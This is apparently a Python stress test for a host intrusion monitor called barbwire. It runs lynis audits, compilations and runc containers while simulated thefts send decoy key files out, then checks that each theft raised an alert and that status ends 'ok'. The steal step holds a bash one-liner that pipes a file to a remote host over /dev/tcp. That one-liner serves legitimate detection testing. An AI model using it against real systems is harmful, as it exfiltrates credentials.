#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A busy day of a host: lynis audits it, sources are compiled, containers start and end, and thieves steal meanwhile.
Each theft raises its alert, no loss is counted, the tables are not full, and status is "ok" at the end.

usage: test-day.py [--long]     --long: 20 minutes, 200 containers and 2,000 thefts; otherwise one short round"""

import json
import os
import shutil
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import tap
import varlink
from cases import Scene, cases
from net import HOST_V4
from tap import Failure, require, require_equal

LONG = "--long" in sys.argv
SECONDS = 1200 if LONG else 10
THEFTS, CONTAINERS = (2000, 200) if LONG else (60, 6)
# The short round audits what reads credentials, and many processes and pipes.
LYNIS = ["lynis", "audit", "system", "--quick", "--no-colors", "--no-log", "--logfile", "/dev/null", "--report-file",
         "/dev/null"] + ([] if LONG else ["--tests-from-group", "authentication,file_permissions"])
# Of one turn, on a machine that has other work to do.
TIMEOUT = (1800 if LONG else 480) * tap.SLOW
UNITS = 20

CONTAINER_SCRIPT = 'for f in /etc/*; do [ ! -f "$f" ] || cat "$f" | tr a b | wc -c; done; echo done'


class Worker(threading.Thread):
    """Takes so many turns or, without a number, at least one, and goes on until the time is over."""

    def __init__(self, turn, until, turns=0):
        super().__init__(daemon=True)
        self.turn, self.until, self.wanted, self.turns, self.failure = turn, until, turns, 0, None

    def run(self):
        try:
            while self.turns < self.wanted or not self.turns or (not self.wanted and time.monotonic() < self.until):
                self.turn(self.turns)
                self.turns += 1
        except (Failure, OSError, subprocess.SubprocessError) as failure:
            self.failure = failure


class Day(Scene):
    def __init__(self, net, home):
        super().__init__(net, home)
        self.decoys = [home.key(b"id_run_%04d" % n) for n in range(THEFTS)]
        self.bundle, self.sources = f"{self.directory}/bundle", f"{self.directory}/sources"
        self.stolen = {}
        self.prepare_container()
        os.mkdir(self.sources)
        for n in range(UNITS):
            with open(f"{self.sources}/unit{n}.c", "w", encoding="ascii") as out:
                out.write("#include <stdio.h>\n#include <sys/socket.h>\n"
                          f"int f{n}(void) {{ return printf(\"%d\", {n}); }}\n")

    def prepare_container(self):
        root = f"{self.bundle}/rootfs"
        for directory in ("usr", "etc", "tmp"):
            os.makedirs(f"{root}/{directory}")
        for link in ("bin", "lib", "lib64", "sbin"):
            os.symlink(f"usr/{link}", f"{root}/{link}")
        for name in ("passwd", "group", "hosts", "services", "protocols"):
            if os.path.exists(f"/etc/{name}"):
                shutil.copy(f"/etc/{name}", f"{root}/etc/{name}")
        subprocess.run(["runc", "spec", "--bundle", self.bundle], check=True)
        with open(f"{self.bundle}/config.json", encoding="utf-8") as file:
            config = json.load(file)
        config["process"].update(terminal=False, args=["/bin/sh", "-c", CONTAINER_SCRIPT])
        config["root"]["readonly"] = False
        config["mounts"].append({"destination": "/usr", "source": "/usr", "type": "none", "options": ["rbind", "ro"]})
        with open(f"{self.bundle}/config.json", "w", encoding="utf-8") as file:
            json.dump(config, file)

    def status(self):
        with varlink.Connection(self.socket) as client:
            return client.call("io.barbwire.Barbwire.GetStatus")

    # What happens meanwhile: a turn each.

    @staticmethod
    def pause(turns):
        """Deals the turns over the day."""
        time.sleep(SECONDS / turns / 2)

    def audit(self, _):
        result = self.net.run(LYNIS, timeout=TIMEOUT, cwd="/")
        require("Hardening index" in result.stdout, f"lynis: {result.stdout[-400:]}{result.stderr[-400:]}")

    def compile(self, _):
        script = "for f in *.c; do cc -pipe -O1 -c $f; done; ar rc all.a *.o; rm *.o all.a"
        result = self.net.run(["/bin/sh", "-ec", script], cwd=self.sources, timeout=TIMEOUT)
        require_equal(result.returncode, 0, result.stderr)

    def contain(self, n):
        result = subprocess.run(["runc", "run", "--bundle", self.bundle, f"barbwire-day-{os.getpid()}-{n}"],
                                capture_output=True, text=True, timeout=TIMEOUT, check=False)
        require(result.stdout.endswith("done\n"), f"runc: {result.stderr}")
        self.pause(CONTAINERS)

    def steal(self, n):
        """Through a pipe, as a person would."""
        key, content = self.decoys[n]
        result = self.net.run(["/bin/bash", "-c", 'cat "$1" | (exec 3<>/dev/tcp/$2/443; exec cat >&3)', "bash", key,
                               HOST_V4])
        require_equal(result.returncode, 0, f"theft {n}: {result.stderr}")
        self.net.sink.wait_arrived(content)
        self.stolen[key.decode()] = n
        self.pause(THEFTS)



def day(t, d):
    until = time.monotonic() + SECONDS
    workers = {"audits": Worker(d.audit, until), "compilations": Worker(d.compile, until),
               "containers": Worker(d.contain, until, CONTAINERS), "thefts": Worker(d.steal, until, THEFTS)}
    for worker in workers.values():
        worker.start()
    for name, worker in workers.items():
        worker.join()
        require(not worker.failure, f"{name}: {worker.failure}")
    t.note(", ".join(f"{worker.turns} {name}" for name, worker in workers.items()))
    d.bw.prove_delivered(d.net, d.home)
    alerted = {entry["path"] for alert in d.bw.alerts for entry in alert["files"]}
    missing = sorted(set(d.stolen) - alerted)
    require(not missing, f"{len(missing)} of {len(d.stolen)} thefts raised no alert, the first: {missing[:5]}")


def undamaged(t, d):
    status = d.status()
    t.note(", ".join(f"{table['name']} {table['live']} of {table['max']}" for table in status["tables"]))
    require_equal((status["state"], status["degraded"]), ("ok", []), "status at the end of the day")
    require_equal([loss for loss in status["losses"] if loss["count"]], [], "losses")


def main():
    with cases() as (t, net, home):
        d = Day(net, home)
        with d.bw:
            t.case(f"lynis, a compiler, {CONTAINERS} containers, {THEFTS} thefts: each is alerted", day, t, d)
            t.case("no loss, and status is ok", undamaged, t, d)


if __name__ == "__main__":
    main()
